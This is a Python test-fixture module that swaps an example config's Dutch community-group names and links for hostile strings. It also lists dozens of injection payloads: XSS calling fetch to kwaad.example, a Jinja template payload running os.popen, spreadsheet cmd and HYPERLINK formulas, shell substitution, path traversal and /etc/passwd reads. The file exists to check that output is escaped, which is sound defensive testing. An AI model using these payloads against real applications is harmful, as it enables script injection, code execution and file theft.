"""The example with names and material of people who mean harm, for the runs of the tests: through the whole chain."""

import contextlib
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from monitor_lib import paths

# A name of the example, and what stands in its place.
NAMES = {
    "De Brug (50+)": "De Brug {{ 7*7 }}",
    "Buurtkracht & Co.": "Buurtkracht ${document.title}",
    "Samen-Sterker!": "<blink>Samen</blink> Sterk",
    "1 + 1 = Buren": "=SOM(Buren)",
    "(T)huis van de Wijk": "{% huis %} van de wijk",
    "Buurtmoes ’t Slaatje": "Buurtmoes <img src=x onerror=alert(1)>",
    "Zeewind / Zeeklap": "Zeewind</script><script>alert(1)</script>",
    "Kring ‘Oet en Aan’": "Kring `);alert(1);(`",
    "Bewonershuis ’t Wiedse Veld": "{{cycler.__init__.__globals__.os.popen(dict(id=1)|list|first).read()}}",
    "“Samen” aan de Sluis": '=HYPERLINK("x";"Samen")',
    "De Polderpioniers 3.0": "../../../tmp/PWNED",
    "Noaberpunt Nét Eem": "Noaberpunt \u202eneets",
}
MATERIAL = {
    "Alles over de brug": "<img src=x onerror=alert(1)> {{ 7*7 }} ${document.title} </script>",
    "https://www.brug.example/over-ons": "https://www.brug.example/%22onclick=%22alert(1)",
    "Handleiding voor klussers": '=HYPERLINK("https://kwaad.example")',
    "https://film.example/nog-niet-bekeken": "javascript:alert(1)",
}


@contextlib.contextmanager
def example(folder: Path) -> Iterator[None]:
    """Has the example be with these, in this process."""
    text = paths.project().example.read_text("utf-8")
    for own, other in (NAMES | MATERIAL).items():
        assert text.count(f'"{own}"') == 1, own
        text = text.replace(f'"{own}"', json.dumps(other))
    made = folder / "example.toml"
    made.write_text(text, "utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(paths.Project, "example", property(lambda _: made))
        yield


# What a browser would do, were it to run one of these: it marks the page, and asks somebody else something.
_ACT = "document.documentElement.dataset.pwned=1;fetch('//kwaad.example')"
_TEMPLATE = "cycler.__init__.__globals__.os.popen('touch /tmp/monitor-pwned').read()"
# Ways to have a text run, or leave the place it is put in; a new one is a line.
NOTATIONS = (
    f"<script>{_ACT}</script>",
    f"</script><script>{_ACT}</script>",
    f"<img src=x onerror={_ACT}>",
    f'"><img src=x onerror="{_ACT}">',
    f"'><svg onload={_ACT}>",
    f"<svg/onload={_ACT}>",
    f"<details open ontoggle={_ACT}>",
    f'<iframe srcdoc="<script>parent.{_ACT}</script>">',
    f'<a href="javascript:{_ACT}">x</a>',
    "<link rel=stylesheet href=//kwaad.example>",
    "<meta http-equiv=refresh content=0;url=//kwaad.example>",
    "<base href=//kwaad.example>",
    "<style>@import '//kwaad.example'</style>",
    "<plaintext>",
    "<!--",
    "]]>",
    "</textarea></title></style>",
    f"&lt;script&gt;{_ACT}&lt;/script&gt;",
    f"&#60;img src=x onerror={_ACT}&#62;",
    f"\\u003cscript\\u003e{_ACT}\\u003c/script\\u003e",
    f"%3Cscript%3E{_ACT}%3C/script%3E",
    f"${{{_ACT}}}",
    f"`;{_ACT};`",
    f"`);{_ACT};(`",
    f"';{_ACT};'",
    f'";{_ACT};"',
    f"\\';{_ACT};//",
    "{{ 7*7 }}",
    f"{{{{{_TEMPLATE}}}}}",
    "{% huis %}",
    "{# stil #}",
    "{0.__class__} %s %(naam)s",
    '=HYPERLINK("https://kwaad.example";"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    '#import "/etc/passwd"',
    '#eval("1+1")',
    "$(touch /tmp/monitor-pwned)",
    "../../../tmp/monitor-pwned",
    "[x](javascript:alert(1)) ![x](//kwaad.example/x.png)",
    "@pd.io.common.os.system('touch /tmp/monitor-pwned')",
    "\\input{/etc/passwd} $\\def\\x{\\x\\x}\\x$",
)
PWNED = Path("/tmp/monitor-pwned")
